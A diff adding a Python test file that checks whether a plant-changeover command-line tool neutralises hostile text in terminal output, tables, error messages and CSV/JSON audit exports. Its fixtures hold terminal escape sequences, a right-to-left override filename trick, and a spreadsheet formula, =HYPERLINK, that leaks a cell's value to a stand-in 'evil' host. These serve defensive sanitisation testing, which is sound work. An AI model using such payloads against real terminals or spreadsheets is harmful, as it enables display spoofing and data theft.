@@ -1,0 +1,184 @@
+"""What somebody else chose to be called, or wrote as a reason, does nothing to the terminal, the table or the spreadsheet."""
+
+import csv
+import io
+import json
+import os
+import pty
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from data.errors import BadSettings
+from flows.plant import Plant
+from flows.spreadsheet import cell
+from flows.terminal import answer, print_table, say, telling, waiting
+
+from .test_cli import changeover
+from .test_trail import append
+
+EVIL = "\x1b[2J\x1b]0;title\x07\x9b31m\u202egnp.exe\u200b\u2028next\rover [red]rich[/] =HYPERLINK(1)"
+SHOWN = "\\x1b[2J\\x1b]0;title\\x07\\x9b31m\\u202egnp.exe\\u200b"
+ROOT = Path(__file__).parents[2]
+
+
+def harmless(text: str) -> bool:
+    """Whether ``text`` has nothing in it but letters and line ends."""
+    return all(line.replace("\t", "").isprintable() for line in text.split("\n"))
+
+
+def test_lines_and_tables(capsys: pytest.CaptureFixture[str]) -> None:
+    say(EVIL)
+    answer(EVIL)
+    answer()
+    print_table(EVIL, ("a", "b"), [(EVIL, "x\ty\nz")])
+    out, err = capsys.readouterr()
+    assert harmless(out) and harmless(err)
+    assert err.startswith(SHOWN) and err.count("\n") == 1
+    first, second, header, row = out.splitlines()
+    assert first.startswith(SHOWN) and second == "" and header == "a\tb"
+    assert row.startswith(SHOWN) and row.split("\t")[1] == "x y z"
+
+
+def test_progress_without_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
+    with waiting(EVIL) as news:
+        news(EVIL)
+    with telling(EVIL) as tell:
+        tell(EVIL, 0.5)
+    assert harmless(capsys.readouterr().err)
+
+
+def test_on_a_terminal_only_our_own_commands_are_sent() -> None:
+    """On a pseudo-terminal Rich draws; of the text nothing is taken for a command, nor for Rich's own markup."""
+    code = f"""
+import time
+from flows.terminal import print_table, say, telling, waiting
+evil = {EVIL!r}
+print_table(evil, ("a",), [(evil,)])
+say(evil)
+with waiting(evil) as news:
+    news(evil)
+    time.sleep(0.3)
+with telling(evil) as tell:
+    tell(evil, 0.5)
+    time.sleep(0.3)
+"""
+    leader, follower = pty.openpty()
+    environment = os.environ | {"PYTHONPATH": str(ROOT), "TERM": "xterm-256color", "COLUMNS": "200"}
+    with subprocess.Popen([sys.executable, "-c", code], stdout=follower, stderr=follower, env=environment) as child:
+        os.close(follower)
+        found = b""
+        while True:
+            try:
+                found += os.read(leader, 65536)
+            except OSError:  # the other end is closed
+                break
+        assert child.wait(30) == 0, found.decode("utf-8", "replace")
+    os.close(leader)
+    text = found.decode("utf-8")
+    for sent in ("\x1b[2J\x1b]0;", "\x1b]0;title", "\x07", "\x9b", "\u202e", "\u200b", "\u2028"):
+        assert sent not in text, repr(sent)
+    assert "\\x1b]0;title\\x07" in text and "[red]rich[/]" in text
+
+
+@pytest.mark.parametrize("debug", [False, True])
+def test_errors(plant: Plant, monkeypatch: pytest.MonkeyPatch, debug: bool) -> None:
+    def fail(*_: object) -> None:
+        raise BadSettings(EVIL)
+
+    monkeypatch.setattr("flows.servers.down", fail)
+    result = changeover(*(("--debug",) if debug else ()), "down")
+    assert result.exit_code == 2 and harmless(result.stderr)
+    assert result.stderr.splitlines()[-1].startswith(f"error: {SHOWN}")
+    result = changeover("history", "--product", EVIL)
+    assert result.exit_code == 2 and harmless(result.output)
+    result = changeover(EVIL)
+    assert result.exit_code == 2 and harmless(result.output)
+
+
+def test_the_audit_trail_as_table_csv_and_json(plant: Plant) -> None:
+    reason = '=HYPERLINK("http://evil/?"&A1)\r\n' + EVIL
+    append(plant, 1, actor=EVIL, product=EVIL, reason=reason, before=EVIL, subject="\u202e", address="@SUM(1)\x1b[31m")
+    table = changeover("audit", "list").stdout
+    assert harmless(table) and SHOWN in table and len(table.splitlines()) == 2
+    text = changeover("audit", "list", "--csv").stdout
+    assert harmless(text)
+    (row,) = csv.DictReader(io.StringIO(text))
+    assert row["reason"].startswith("'=HYPERLINK(") and row["address"] == "'@SUM(1)\\x1b[31m"
+    printed = changeover("audit", "list", "--json").stdout
+    assert harmless(printed) and printed.isascii()
+    (event,) = json.loads(printed)["events"]
+    assert (event["reason"], event["actor"]) == (reason, EVIL)  # to the letter
+
+
+def test_what_verify_finds(plant: Plant, monkeypatch: pytest.MonkeyPatch) -> None:
+    append(plant, 1)
+    monkeypatch.setattr("registry.audit.verify", lambda *_, **__: [f"event 1 was edited: {EVIL}"])
+    result = changeover("audit", "verify")
+    assert result.exit_code == 1 and harmless(result.stdout) and SHOWN in result.stdout
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\tx", "\rx", "\nx", " =1",
+        "\u00a0=1", "'=1", "\"=1", " ' =1", "“=1", "＝1", "＋1", "－1", "＠x",
+        "﹦1", "−1", "\u200b=1", "\ufeff=1",
+    ],
+)  # fmt: skip
+def test_nothing_begins_like_a_formula(text: str) -> None:
+    assert str(cell(text)).startswith("'") and str(cell(text)).isprintable()
+
+
+def test_other_cells_are_as_they_were() -> None:
+    for value in ("fine", "2026-11-21T06:00:00Z", "a = b", "ana@plant", "", 7, -1, True, None):
+        assert cell(value) == value
+    assert cell("fine; =1+1") == "fine;' =1+1"  # the next cell, where semicolons separate
+
+
+@given(st.text())
+def test_whatever_the_cell(text: str) -> None:
+    found = str(cell(text))
+    assert found.isprintable() and not found.lstrip(' "').startswith(tuple("=+-@＝＋－＠"))
+
+
+def test_commands_that_print_what_the_registry_says(plant: Plant, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Whatever a reason, a name or an address holds: no command sends it to the terminal, and JSON keeps it."""
+    from datetime import UTC, datetime
+
+    from flows.doctor import Finding
+    from flows.lineage import Box, Lineage
+    from registry.history import HistoryLine
+
+    (plant.path / "changeover.yaml").write_text("products: {bolt: {preset: quick}}\n")
+    patch: Callable[[str, Any], None] = monkeypatch.setattr
+    patch("flows.services.connect_as", lambda *_: None)
+    patch("flows.services.connect_as_person", lambda *_: None)
+    patch("flows.doctor.examine", lambda *_: [Finding("warning", EVIL, EVIL, EVIL)])
+    line = HistoryLine(
+        version="1", batch=EVIL, created=datetime.now(UTC), gates="passed", qa="approved", by=EVIL, at="", reason=EVIL,
+        aliases=(EVIL,), digest="ab" * 32,
+    )  # fmt: skip
+    patch("registry.history.history", lambda *_: [line])
+    patch("flows.lineage.lineage", lambda *_: Lineage("bolt", "1", (Box("k", EVIL, ((EVIL, EVIL),)),), ()))
+    for verb in (("history", "--product", "bolt"), ("doctor",), ("lineage", "bolt", "1")):
+        result = changeover(*verb)
+        assert result.exit_code == 0, result.output
+        assert harmless(result.output) and SHOWN in result.stdout, verb
+        printed = changeover(*verb, "--json").stdout
+        assert printed.isascii() and harmless(printed) and EVIL in _texts(json.loads(printed)), verb
+
+
+def _texts(value: object) -> set[str]:
+    """Every text in a JSON value, keys included."""
+    if isinstance(value, dict):
+        return set(value) | set().union(*map(_texts, value.values()))
+    if isinstance(value, list):
+        return set().union(*map(_texts, value))
+    return {value} if isinstance(value, str) else set()
